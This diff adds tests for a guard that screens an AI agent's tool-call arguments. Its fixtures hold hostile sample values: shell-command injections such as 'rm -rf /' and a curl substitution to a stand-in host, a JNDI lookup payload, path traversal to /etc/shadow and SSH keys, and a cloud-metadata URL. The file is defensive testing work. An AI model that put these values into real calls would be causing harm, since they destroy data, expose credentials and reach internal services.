@@ -1,0 +1,82 @@
+/** What the arguments of a call hold beside their values. */
+import { toolGuard } from '#core/contracts/config/tool-guard.ts';
+import { checkArguments } from '#core/tool-guard/arguments.ts';
+import { decideArguments } from '#core/tool-guard/decide-arguments.ts';
+
+const kinds = (parameters: Record<string, unknown>) => [...new Set(checkArguments(parameters).map(({ kind }) => kind))];
+const actions = toolGuard.parse({}).arguments;
+
+describe('[guard.arguments] found are', () => {
+  test.each<[string, Record<string, unknown>, string]>([
+    ['a second command', { path: 'a.txt; rm -rf /' }, 'command'],
+    ['a substitution', { branch: 'main$(curl x.example)' }, 'command'],
+    ['an option for a name', { ref: '--upload-pack=touch /tmp/x' }, 'command'],
+    ['a template', { name: '{{7*7}}' }, 'template'],
+    ['a lookup, in any text', { body: 'hi ${jndi:ldap://x.example/a}' }, 'template'],
+    ['an encoded step', { file: '..%2f..%2fetc/hosts' }, 'path'],
+    ['a climb', { path: '../../../../etc/shadow' }, 'path'],
+    ['a key', { path: '/home/a/.ssh/id_rsa' }, 'path'],
+    ['cloud metadata', { url: 'http://169.254.169.254/latest/meta-data/' }, 'url'],
+    ['a number for a host', { url: 'http://2130706433/' }, 'url'],
+    ['a disguised host', { url: 'https://github.com@collect.example/' }, 'url'],
+    ['a scheme for files', { url: 'file:///etc/hosts' }, 'url'],
+    ['a token', { comment: `ghp_${'a1B2'.repeat(9)}` }, 'secret'],
+    ['a card number', { note: 'card 4111 1111 1111 1111' }, 'personal_data'],
+    ['a prompt', { text: 'You are a helpful assistant.\nKnowledge cutoff: 2025' }, 'prompt'],
+    ['a list of tools', { text: '{"inputSchema":{}},{"inputSchema":{}}' }, 'prompt'],
+    ['a value deep inside', { a: [{ b: { path: 'x;rm -rf /' } }] }, 'command'],
+  ])('%s', (_what, parameters, kind) => {
+    expect(kinds(parameters)).toContain(kind);
+  });
+
+  test.each<[string, Record<string, unknown>]>([
+    ['a program in a text', { content: 'rm -rf build; npm ci && npm test | tee log' }],
+    ['a neighbour folder', { path: '../lib/a.ts' }],
+    ['a title with signs', { title: 'Fix: a & b; then c' }],
+    ['a name with a sign', { name: "O'Brien & Sons" }],
+    ['an address', { url: 'https://example.com/a?b=c&d=%20e#f' }],
+    ['an address of a service here', { url: 'http://localhost:3000/health' }],
+    ['a token where one belongs', { api_key: `ghp_${'a1B2'.repeat(9)}` }],
+    ['a public key', { path: '~/.ssh/id_rsa.pub' }],
+    ['an example environment', { path: '.env.example' }],
+    ['prose about prompts', { body: 'The system prompt is explained in chapter two.' }],
+    ['a resource of a server', { uri: 'file:///work/README.md' }],
+    ['a format', { format: 'YYYY-MM-DD' }],
+  ])('%s is not', (_what, parameters) => {
+    expect(kinds(parameters)).toEqual([]);
+  });
+});
+
+describe('[guard.arguments] the decision', () => {
+  const call = { protocol: 'mcp', tool: 'get', target: '', capability: 'read', parameters: { path: 'a;rm -rf /' } };
+  const allow = { decision: 'allow', matched_rule: 'mcp:get', policy: 'p' } as const;
+
+  test('is at least what the gravest finding asks for; a stricter rule stays', () => {
+    expect(decideArguments(allow, call, actions)).toMatchObject({
+      decision: 'review',
+      matched_rule: 'tool_guard:command',
+    });
+    expect(decideArguments(allow, call, { ...actions, command: 'block' })).toMatchObject({ decision: 'block' });
+    const review = { ...allow, decision: 'review' } as const;
+    expect(decideArguments(review, call, actions)).toMatchObject({
+      decision: 'review',
+      matched_rule: 'mcp:get',
+      guard: [{ kind: 'command' }],
+    });
+    const block = { ...allow, decision: 'block' } as const;
+    expect(decideArguments(block, call, actions)).toBe(block);
+  });
+
+  test('of a protocol with a grammar of its own is that grammar’s', () => {
+    expect(decideArguments(allow, { ...call, protocol: 'Shell' }, actions)).toBe(allow);
+  });
+
+  test('[guard.fails-closed] on arguments nested beyond every walk is review', () => {
+    let deep: unknown = 'x';
+    for (let level = 0; level < 100; level++) deep = { deep };
+    expect(decideArguments(allow, { ...call, parameters: { deep } }, actions)).toMatchObject({
+      decision: 'review',
+      matched_rule: 'tool_guard:unread',
+    });
+  });
+});
